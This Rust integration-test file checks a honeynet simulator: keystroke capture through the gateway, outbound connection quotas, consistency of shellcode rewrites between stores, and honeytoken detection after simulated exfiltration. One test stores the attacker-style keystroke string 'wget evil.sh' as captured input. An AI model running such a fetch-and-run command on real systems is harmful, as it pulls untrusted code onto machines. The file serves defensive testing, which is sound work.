//! Cross-module end-to-end checks: sensor → gateway → collector flow,
//! quota enforcement through a scripted scenario, and the consistency
//! obligations between the redundant stores.

mod common;

use std::net::Ipv4Addr;

use honeynet::capture::{Collector, RecType, Sensor};
use honeynet::honeywall::{Decision, EventKind, Gateway, QuotaPolicy};
use honeynet::opsreport::{evaluate_alerts, scan_for_tokens, AlertPredicate, Severity};
use honeynet::rulelang::find_occurrences;
use honeynet::simnet::run_scenario;
use honeynet::stores::{LoadedStores, Stores};

const HP: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);

/// A keystroke emitted on a honeypot is diverted by the gateway and lands
/// verbatim in the collector's store.
#[test]
fn keystroke_survives_the_channel_verbatim() {
    let net = common::reference_net();
    let mut sensor = Sensor::new(HP, &net);
    let mut gateway = Gateway::new(
        net,
        honeynet::rulelang::RuleSet::empty(),
        QuotaPolicy::default(),
    );
    let mut collector = Collector::new();
    let mut stores = Stores::default();

    let keystrokes = b"wget evil.sh";
    let p = sensor
        .emit(RecType::Input, 4242, 0, 0, "bash", keystrokes, 777_000)
        .unwrap();
    match gateway.process(p, &mut stores).decision {
        Decision::DivertToCollector(p) => collector.ingest(&p, &mut stores),
        other => panic!("capture packet must divert, got {other:?}"),
    }
    assert_eq!(stores.capture.len(), 1);
    assert_eq!(stores.capture[0].data, keystrokes);
    assert_eq!(stores.capture[0].host_ip, HP);
    assert_eq!(stores.capture[0].command, "bash");
}

/// The scripted outbound burst: 20 connection attempts from one compromised
/// honeypot, of which exactly 15 pass and 5 are silently dropped.
#[test]
fn quota_burst_scenario_forwards_exactly_fifteen() {
    let config = common::load_reference_config();
    let rules = common::load_rules("default.rules");
    let sc = common::load_scenario("quota_burst.json");
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();

    let drops = out
        .stores
        .events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::QuotaDropped { .. }))
        .count();
    assert_eq!(drops, 5);

    // Forwarded outbound SYN initiations from the honeypot.
    let forwarded_syns = out
        .stores
        .events
        .iter()
        .filter(|e| {
            matches!(e.kind, EventKind::Forwarded)
                && e.flow.src_ip == HP
                && e.flow.dst_port == 80
                && e.direction == honeynet::netmodel::Direction::Outbound
        })
        .count();
    assert_eq!(forwarded_syns, 15);
}

/// Alert completeness: every quota drop yields exactly one QUOTA_EXCEEDED
/// alert when the corresponding rule is loaded.
#[test]
fn every_quota_drop_alerts_exactly_once() {
    let config = common::load_reference_config();
    let rules = common::load_rules("default.rules");
    let sc = common::load_scenario("quota_burst.json");
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();

    let alerts = evaluate_alerts(&out.stores.events, &[], &config.alert_rules);
    let quota_alerts: Vec<_> = alerts
        .iter()
        .filter(|a| matches!(a.predicate, AlertPredicate::QuotaExceeded { host } if host == HP))
        .collect();
    let drops = out
        .stores
        .events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::QuotaDropped { .. }))
        .count();
    assert_eq!(quota_alerts.len(), drops);
    assert!(quota_alerts.iter().all(|a| a.severity == Severity::Medium));
}

/// Redundancy consistency between the two stores: per-sid REWRITTEN counts
/// from the event store equal the number of forwarded packets whose payload
/// carries the replace bytes at the logged offsets.
#[test]
fn rewrites_are_consistent_across_stores() {
    let config = common::load_reference_config();
    let rules = common::load_rules("shellcode.rules");
    let replace = rules.rules()[0].replace.clone().unwrap();
    let sc = common::load_scenario("compromise_pivot.json");
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();

    let rewritten: Vec<(u64, &Vec<usize>)> = out
        .stores
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Rewritten { sid: 651, offsets } => Some((e.time, offsets)),
            _ => None,
        })
        .collect();
    assert_eq!(rewritten.len(), 1, "the pivot exploit is the one rewrite");

    let mut matching_packets = 0;
    for (time, offsets) in &rewritten {
        let packet = out
            .stores
            .packets
            .iter()
            .find(|p| p.timestamp == *time && !find_occurrences(&p.payload, &replace).is_empty())
            .expect("rewritten packet present in packet store");
        for off in offsets.iter() {
            assert_eq!(
                &packet.payload[*off..*off + replace.len()],
                replace.as_slice(),
                "logged offset must hold the replace bytes"
            );
        }
        matching_packets += 1;
    }
    assert_eq!(matching_packets, rewritten.len());
}

/// Before any exfiltration step runs, no token marker occurs anywhere in
/// the evidence.
#[test]
fn markers_absent_until_exfiltration() {
    let config = common::load_reference_config();
    let rules = common::load_rules("default.rules");
    // scan_sweep has no exfiltration steps at all.
    let sc = common::load_scenario("scan_sweep.json");
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();
    let loaded = LoadedStores {
        packets: out.stores.packets.clone(),
        events: out.stores.events.clone(),
        capture: out.stores.capture.clone(),
        capture_raw: out.stores.capture_raw.clone(),
        corrupt_lines: 0,
    };
    assert!(scan_for_tokens(&loaded, &config.tokens).is_empty());
}

/// Exfiltration without a capture-channel read leaves exactly one marker
/// sighting, in a packet payload.
#[test]
fn quiet_exfiltration_yields_one_packet_hit() {
    let config = common::load_reference_config();
    let rules = common::load_rules("empty.rules");
    let mut sc = common::load_scenario("compromise_pivot.json");
    for step in &mut sc.steps {
        if let honeynet::simnet::StepAction::Exfiltrate { capture_read, .. } = &mut step.action {
            *capture_read = false;
        }
    }
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();
    let loaded = LoadedStores {
        packets: out.stores.packets.clone(),
        events: out.stores.events.clone(),
        capture: out.stores.capture.clone(),
        capture_raw: out.stores.capture_raw.clone(),
        corrupt_lines: 0,
    };
    let hits = scan_for_tokens(&loaded, &config.tokens);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].token_id, "mail-passwords");
    assert_eq!(hits[0].source, honeynet::opsreport::TokenSource::Packet);
    assert_eq!(hits[0].time, 30_000_000);
}

/// Every delivered packet was forwarded by the gateway, and every capture
/// packet was diverted: conservation across the harness.
#[test]
fn delivery_conservation() {
    let config = common::load_reference_config();
    let rules = common::load_rules("default.rules");
    let sc = common::load_scenario("compromise_pivot.json");
    let out = run_scenario(&sc, &config.net, &rules, &config.quota, &config.tokens).unwrap();

    let forwarded = out
        .stores
        .events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::Forwarded | EventKind::Rewritten { .. }))
        .count();
    let diverted = out
        .stores
        .events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::DivertedCapture))
        .count();
    let dropped = out
        .stores
        .events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::QuotaDropped { .. }))
        .count();
    // One terminal event per packet.
    assert_eq!(forwarded + diverted + dropped, out.stores.packets.len());
    // Each diverted packet became exactly one stored capture record (or a
    // raw sidecar entry).
    assert_eq!(
        diverted,
        out.stores.capture.len() + out.stores.capture_raw.len()
    );
}
